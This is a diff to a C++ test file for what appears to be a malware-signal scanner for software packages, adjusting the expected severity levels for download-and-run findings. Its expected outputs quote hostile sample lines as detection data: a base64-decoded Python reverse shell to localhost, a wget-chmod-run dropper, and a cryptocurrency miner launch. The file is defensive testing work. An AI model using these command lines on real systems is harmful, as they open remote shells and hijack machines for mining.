@@ -148,12 +148,14 @@ TEST(Signals, form_secrets_collected_and_sent_are_high_wherever_the_file_is) {
             "document.forms (line 226); fetch( (line 234)\n");
 }
 
-TEST(Signals, a_dropper_command_in_a_packages_tests_is_low_and_in_a_vendored_copy_one_step_down) {
+// A dropper's command line outside install and import is medium (a CI script's download of a
+// tool, pymongo), and one step down again in tests or in a vendored copy.
+TEST(Signals, a_dropper_command_in_a_packages_tests_or_a_vendored_copy_is_low) {
   EXPECT_EQ(weighed(fact("shell", "download-executed", "p-1.0/tests/test_x.py", 3, "wget …; chmod +x x") +
                     fact("shell", "download-executed", "p-1.0/p/_vendor/six.py", 3, "wget …; chmod +x x") + kDone),
             "signals malware_signal MALWARE_SIGNAL low [signals-shell-download-executed] p-1.0/tests/test_x.py:3 "
             "downloads a program and runs it: wget …; chmod +x x\n"
-            "signals malware_signal MALWARE_SIGNAL medium [signals-shell-download-executed] p-1.0/p/_vendor/six.py:3 "
+            "signals malware_signal MALWARE_SIGNAL low [signals-shell-download-executed] p-1.0/p/_vendor/six.py:3 "
             "downloads a program and runs it: wget …; chmod +x x\n");
 }
 
@@ -324,7 +326,7 @@ const std::string kExpected[] = {
     "decodes a string (base64) that reads as code and runs it: base64: import "
     "socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/"
     "sh','-i'])\n",
-    "signals malware_signal MALWARE_SIGNAL high [signals-shell-download-executed] fastcalc-1.0.0/fastcalc/core.py:4 "
+    "signals malware_signal MALWARE_SIGNAL medium [signals-shell-download-executed] fastcalc-1.0.0/fastcalc/core.py:4 "
     "downloads a program and runs it: wget http://127.0.0.1:9/xm -O /tmp/xm; chmod +x /tmp/xm\n"
     "signals malware_signal MALWARE_SIGNAL high [signals-shell-miner] fastcalc-1.0.0/fastcalc/core.py:4 starts a "
     "cryptocurrency miner: /tmp/xm -o stratum+tcp://127.0.0.1:9 -u " +
